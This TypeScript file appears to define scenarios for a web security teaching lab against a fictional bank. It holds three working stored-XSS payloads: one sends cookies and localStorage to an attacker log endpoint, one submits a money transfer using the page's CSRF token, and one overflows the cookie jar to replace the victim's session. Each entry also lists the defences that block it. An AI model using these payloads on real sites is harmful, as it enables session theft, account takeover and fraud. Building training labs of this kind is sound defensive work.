import { type AttackOf, notWritten } from './attack.ts';

const scriptDefences = ['http-only', 'output-encoding', 'content-security-policy'] as const;

/** Lab 1: a stored comment runs in the victim's page. */
export const theft = [
  {
    id: 'theft-by-script',
    lab: 'theft',
    title: 'Steal the cookie (XSS)',
    story:
      'Mallory’s comment contains a script. It runs in Alice’s page and sends document.cookie, cookieStore and localStorage to the attacker. The attacker’s client then sends the session id to the bank: at once, after Alice’s next login, and after her logout.',
    goal: 'The bank treats the attacker’s client as Alice.',
    ground: 'comment',
    aim: 'let-in',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    loot: 'session-cookie',
    comesBackWith: 'what-it-stole',
    afterDelivery: 'At the bank, log in again and then log out, to see whether the stolen id still works.',
    weakness: notWritten,
    exploit: `Nice bank!
<script>
  const loot = { cookie: document.cookie, storage: { ...localStorage } };
  const all = 'cookieStore' in window ? cookieStore.getAll() : Promise.resolve([]);
  all.then((cookies) => {
    loot.cookieStore = cookies.map(({ name, value }) => name + '=' + value);
    fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) });
  });
</script>`,
    sign: { at: 'log' },
    defences: [...scriptDefences, 'same-site-strict', 'prefix-host', 'regenerate'],
    probe: null,
  },
  {
    id: 'riding-by-script',
    lab: 'theft',
    title: 'Act as Alice without the cookie (XSS)',
    story: 'The script steals nothing. It fetches the transfer form as Alice and submits it with the form’s token.',
    goal: 'Alice’s balance goes down.',
    ground: 'comment',
    aim: 'money',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    weakness: notWritten,
    exploit: `Nice bank!
<script>
  fetch('{{path}}/transfer').then((answer) => answer.text()).then((text) => {
    const page = new DOMParser().parseFromString(text, 'text/html');
    const fields = new FormData(page.querySelector('form'));
    fields.set('to', 'mallory');
    fields.set('amount', '100');
    fetch('{{path}}/transfer', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(Object.fromEntries(fields)),
    });
  });
</script>`,
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    defences: [...scriptDefences, 'same-site-strict', 'synchronizer-token', 'origin-check'],
    probe: null,
  },
  {
    id: 'jar-overflow',
    lab: 'theft',
    title: 'Overflow the cookie jar (XSS)',
    story:
      'A script cannot overwrite an HttpOnly cookie. So it sets 250 others. The browser deletes the session cookie to make room, and the script sets Mallory’s.',
    goal: 'Alice’s browser is logged in as Mallory.',
    ground: 'comment',
    aim: 'browser',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    overflowsJar: true,
    afterDelivery: 'Reload the bank’s profile.',
    weakness: notWritten,
    exploit: `Nice bank!
<script>
  const rest = '; Path=/; Max-Age=60' + (isSecureContext ? '; Secure' : '');
  for (let n = 0; n < 250; n++) document.cookie = 'o' + n + '-{{lab}}=x' + rest;
  document.cookie = '{{cookie}}={{planted}}' + rest;
  fetch('{{log}}', { method: 'POST', mode: 'no-cors', body: 'The jar is full.' });
</script>`,
    sign: { at: 'log' },
    defences: [...scriptDefences, 'prefix-host', 'prefix-host-http'],
    probe: null,
  },
] as const satisfies readonly AttackOf<string>[];
